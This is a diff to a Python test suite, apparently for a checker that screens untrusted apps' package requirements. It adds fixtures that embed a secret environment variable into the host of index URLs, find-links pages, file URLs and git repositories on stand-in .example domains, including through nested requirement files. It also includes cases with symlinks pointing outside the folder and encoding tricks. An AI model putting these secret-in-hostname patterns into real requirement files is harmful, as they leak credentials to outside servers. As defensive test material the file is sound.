@@ -70,6 +70,18 @@ def _pipe(trap: Trap) -> None:
     os.mkfifo(trap.folder / "app.py")
 
 
+def _included(text: str, *, depth: int = 1) -> Callable[[Trap], None]:
+    """Put a list beside the app, `own/list.txt`, which leads to the text over as many files."""
+
+    def place(trap: Trap) -> None:
+        folder = trap.folder / "own"
+        for number in range(1, depth):
+            (folder / ("list.txt" if number == 1 else f"{number}.txt")).write_text(f"-r {number + 1}.txt\n")
+        (folder / ("list.txt" if depth == 1 else f"{depth}.txt")).write_text(text)
+
+    return place
+
+
 def _linked_module(trap: Trap) -> None:
     """A module beside the app that is a link out of the folder."""
     (trap.folder / "helper.py").symlink_to(trap.outside / "secret.txt")
@@ -143,6 +155,46 @@ CASES: tuple[HostileApp, ...] = (
         3,
         4,
     ),
+    _case(
+        "variable in the host of an index",
+        "secret",
+        _app("[f\"--index-url=http://{os.environ['CANARY']}.example/simple/\", 'safe']"),
+        2,
+    ),
+    _case(
+        "variable in the host of a find-links page",
+        "secret",
+        _app("['--index-url=PUBLIC/simple/', f\"--find-links=http://{os.environ['CANARY']}.example/\", 'safe']"),
+        2,
+    ),
+    _case(
+        "variable in the host of a file",
+        "secret",
+        _app("['--index-url=PUBLIC/simple/', 'safe @ http://' + os.environ['CANARY'] + '.example/safe-1.0.tar.gz']"),
+        2,
+    ),
+    _case("variable in the host of a repository", "secret", _listed("git+https://${CANARY}.example/safe#egg=safe"), 2),
+    _case(
+        "variable in the path of the allowed index",
+        "secret",
+        _app("[f\"--index-url=PUBLIC/{os.environ['CANARY']}/simple/\", 'safe']"),
+        2,
+    ),
+    _case(
+        "variable in the host of an index of an included list",
+        "secret",
+        _listed("-r own/list.txt"),
+        2,
+        place=_included("--index-url http://${CANARY}.example/simple/\nsafe\n"),
+    ),
+    _case(
+        "variable in the host of a find-links page of a list two files down",
+        "secret",
+        _listed("-r own/list.txt"),
+        2,
+        place=_included("--find-links http://x.${CANARY}.example/\nsafe\n", depth=2),
+    ),
+    _case("variable that includes a file", "secret", _app("['-r ' + os.environ['CANARY'] + '.txt']"), 2),
     _case("null bytes", "text", _app(_SAFE) + b"\0\0", 2),
     _case("unknown encoding", "text", b"# -*- coding: idna -*-\n" + _app(_SAFE), 0, 2),
     _case("encoding that hides code", "text", b"# -*- coding: unicode_escape -*-\n" + _app(_SAFE), 0, 2),
